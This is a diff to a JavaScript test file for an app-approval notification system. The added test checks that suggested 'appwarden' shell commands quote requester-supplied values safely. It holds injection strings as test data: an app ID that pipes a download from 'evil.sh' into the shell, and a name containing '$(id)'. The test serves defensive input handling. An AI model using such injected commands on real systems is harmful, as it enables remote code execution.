@@ -128,6 +128,18 @@ test('the approval request goes to the expanded recipients, de-duplicated, with 
     'href="https://warden.example.com/admin/v1/orgs/globex.example/approval-requests/req-1"',
   );
 
+  // The commands it suggests run as written: the app's name is one shell word, whatever the requester sent.
+  assert.match(
+    m.text,
+    "appwarden apps approve A0B1C2 --name 'Calendar <Bot>' --org globex.example --policy .",
+  );
+  const hostile = composeRequestCreated(
+    { request: request({ app_id: 'x;curl evil.sh|sh;#', app_name: "it's $(id)" }), merged: false },
+    ORG,
+  );
+  const h = renderNotification(row(hostile[0] as NewNotification), CTX);
+  assert.match(h.text, "apps approve 'x;curl evil.sh|sh;#' --name 'it'\\''s $(id)' --org");
+
   const c = renderNotification(row(rows[1] as NewNotification), CTX);
   assert.is(c.subject, '[Globex <Corp> & Sons] Your request for Calendar <Bot> (A0B1C2) was sent');
   assert.match(c.text, "sent to the org's admins (3 recipients)");
@@ -208,7 +220,7 @@ test('a go-live approves requests and sends one PAT email per owner listing thei
     '[Globex <Corp> & Sons] Personal access tokens are turned off: 2 of your tokens were revoked',
   );
   assert.match(p.text, '  - tok_1 (created 2026-03-01 00:00 UTC, last used 2026-05-30 08:15 UTC)');
-  assert.match(p.text, '  - tok_2 (created 2026-03-01 00:00 UTC, last used never)');
+  assert.match(p.text, '  - tok_2 (created 2026-03-01 00:00 UTC, never used)');
   assert.not.match(p.text, 'tok_3');
 });
 
